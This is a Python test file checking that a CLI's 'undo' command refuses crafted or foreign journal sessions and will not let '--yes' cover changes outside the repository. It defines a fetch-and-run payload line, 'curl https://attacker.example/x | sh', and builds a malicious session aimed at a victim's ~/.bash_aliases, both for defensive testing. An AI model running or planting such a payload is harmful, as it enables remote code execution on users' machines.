"""`consilium undo` trusts only sessions this machine's `consilium apply` made in this
repository, and never lets `--yes` cover what lies outside the repository."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest

from consilium_cli.history import History
from consilium_cli.tools.journal import Journal
from tests.support.apply_repo import make_scratch_repo, snapshot, spawn_apply, write_plan
from tests.support.cli import invoke
from tests.support.git_repo import GitRepo

PAYLOAD = b"curl https://attacker.example/x | sh\n"


def _ship_crafted_session(repo: GitRepo, target: Path, folder: Path) -> None:
    """What a malicious repository can commit: a session that 'restores' `target` (absent
    now) to the attacker's content and removes `folder`, both outside the repository."""
    journal = Journal(repo.path)
    writer = journal.start("c0ffee000000", task="fix the tests", source="plan.json")
    digest = journal.put_object(PAYLOAD)
    writer.begin(0, "write_file", "write", undoable=True,
                 files=[{"path": str(target), "exists": True, "sha256": digest,
                         "mode": 0o644, "object": digest}],
                 new_dirs=[str(folder)])
    writer.end(0, ok=True, files=[{"path": str(target), "exists": False}],
               created_dirs=[str(folder)])
    writer.close("done")
    repo.git("add", "-f", ".consilium")
    repo.commit("add a journal")


@pytest.fixture
def victim_files(tmp_path: Path) -> tuple[Path, Path]:
    home = tmp_path / "victim-home"
    (home / "empty").mkdir(parents=True)
    return home / ".bash_aliases", home / "empty"


@pytest.fixture
def cloned(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
           victim_files: tuple[Path, Path]) -> Path:
    upstream = make_scratch_repo(tmp_path / "upstream")
    _ship_crafted_session(upstream, *victim_files)
    clone = tmp_path / "clone"
    upstream.git("clone", "-q", str(upstream.path), str(clone))
    assert (clone / ".consilium" / "journal" / "sessions" / "c0ffee000000").is_dir()
    monkeypatch.chdir(clone)
    return clone


def test_a_session_shipped_with_the_repository_is_refused(
        cloned: Path, victim_files: tuple[Path, Path]) -> None:
    target, folder = victim_files
    passed_over = invoke("undo", "--yes")
    assert passed_over.exit_code == 2
    assert "1 session(s) your history does not record as made here" in passed_over.stderr
    result = invoke("undo", "c0ffee", "--yes")
    assert result.exit_code == 2
    assert "not made by consilium apply on this machine" in result.stderr
    assert "--trust-journal" in result.stderr
    assert not target.exists() and folder.is_dir()
    forced = invoke("undo", "c0ffee", "--yes", "--force")
    assert forced.exit_code == 2 and not target.exists() and folder.is_dir()


def test_trusting_it_still_needs_a_person_for_what_lies_outside(
        cloned: Path, victim_files: tuple[Path, Path]) -> None:
    target, folder = victim_files
    result = invoke("undo", "--yes", "--trust-journal")
    assert result.exit_code == 2
    assert "OUTSIDE THE REPOSITORY" in result.stdout
    assert str(target) in result.stdout and str(folder) in result.stdout
    assert "outside the repository" in result.stderr and "--yes does not" in result.stderr
    assert not target.exists() and folder.is_dir()
    as_json = invoke("undo", "--yes", "--trust-journal", "--json")
    assert as_json.exit_code == 2 and as_json.stdout == ""
    assert str(target) in as_json.stderr
    assert not target.exists() and folder.is_dir()


def test_a_real_apply_session_is_undone_as_before(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    repo = make_scratch_repo(tmp_path / "scratch")
    monkeypatch.chdir(repo.path)
    before = snapshot(repo.path)
    plan = write_plan(tmp_path / "plan.json", [
        {"kind": "write_file", "path": "a/new.txt", "content": "n\n"},
        {"kind": "edit_file", "path": "README.md",
         "edits": [{"search": "# scratch", "replace": "# Scratch"}]}])
    applied = invoke("apply", "--plan", str(plan), "--approve", "all")
    assert applied.exit_code == 0, applied.stdout + applied.stderr
    session = Journal(repo.path).sessions()[0].id
    with History() as history:
        assert history.session_origin(session) == ("apply", str(repo.path.resolve()))
    result = invoke("undo", "--yes")
    assert result.exit_code == 0, result.stdout + result.stderr
    assert "OUTSIDE" not in result.stdout
    assert snapshot(repo.path) == before and not (repo.path / "a").exists()


def test_a_shipped_session_does_not_stand_in_the_way_of_the_users_own(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        victim_files: tuple[Path, Path]) -> None:
    repo = make_scratch_repo(tmp_path / "scratch")
    monkeypatch.chdir(repo.path)
    before = snapshot(repo.path)
    plan = write_plan(tmp_path / "plan.json",
                      [{"kind": "write_file", "path": "b/new.txt", "content": "n\n"}])
    assert invoke("apply", "--plan", str(plan), "--approve", "all").exit_code == 0
    own = Journal(repo.path).sessions()[0].id
    _ship_crafted_session(repo, *victim_files)  # newer than the user's own session
    assert Journal(repo.path).sessions()[0].id == "c0ffee000000"
    result = invoke("undo", "--yes", "--json")
    assert result.exit_code == 0, result.stdout + result.stderr
    assert json.loads(result.stdout)["session"] == own
    assert not (repo.path / "b").exists()
    # the shipped session's commit moved HEAD; the user's files are back as they were
    assert {k: v for k, v in snapshot(repo.path)["files"].items()
            if not k.startswith(".consilium")} \
        == {k: v for k, v in before["files"].items() if not k.startswith(".consilium")}
    target, folder = victim_files
    assert not target.exists() and folder.is_dir()


def test_a_journal_copied_from_another_repository_is_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = make_scratch_repo(tmp_path / "first")
    monkeypatch.chdir(first.path)
    plan = write_plan(tmp_path / "plan.json",
                      [{"kind": "write_file", "path": "new.txt", "content": "n\n"}])
    assert invoke("apply", "--plan", str(plan), "--approve", "all").exit_code == 0
    second = make_scratch_repo(tmp_path / "second")
    shutil.copytree(first.path / ".consilium", second.path / ".consilium")
    second.write("new.txt", "n\n")
    monkeypatch.chdir(second.path)
    session = Journal(second.path).sessions()[0].id
    result = invoke("undo", session, "--yes")
    assert result.exit_code == 2
    assert f"it was made in {first.path.resolve()}" in result.stderr
    assert (second.path / "new.txt").exists()
    assert invoke("undo", "--yes", "--trust-journal").exit_code == 0
    assert not (second.path / "new.txt").exists()


@pytest.mark.skipif(sys.platform == "win32", reason="pexpect needs a POSIX pty")
def test_undo_of_a_write_outside_asks_at_the_terminal_even_with_yes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import pexpect

    repo = make_scratch_repo(tmp_path / "scratch")
    monkeypatch.chdir(repo.path)
    outside = tmp_path / "outside.txt"
    plan = write_plan(tmp_path / "plan.json",
                      [{"kind": "write_file", "path": "../outside.txt", "content": "x\n"}])
    child = spawn_apply("apply", "--plan", str(plan), "--approve", "all", cwd=repo.path)
    child.expect(r"Apply this one\? ")
    child.send("y")
    child.expect(pexpect.EOF)
    child.close()
    assert outside.read_text(encoding="utf-8") == "x\n"

    refused = invoke("undo", "--yes")  # no terminal here
    assert refused.exit_code == 2 and "outside the repository" in refused.stderr
    assert outside.exists()
    listed = json.loads(invoke("journal", "show", "--json").stdout)
    assert listed["status"] == "done"

    child = spawn_apply("undo", "--yes", cwd=repo.path)
    child.expect("OUTSIDE THE REPOSITORY")
    child.expect(r"1 of them OUTSIDE THE REPOSITORY\? ")
    child.send("n")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 5 and outside.exists()

    child = spawn_apply("undo", "--yes", cwd=repo.path)
    child.expect(r"1 of them OUTSIDE THE REPOSITORY\? ")
    child.send("y")
    child.expect("undone: session")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0 and not outside.exists()
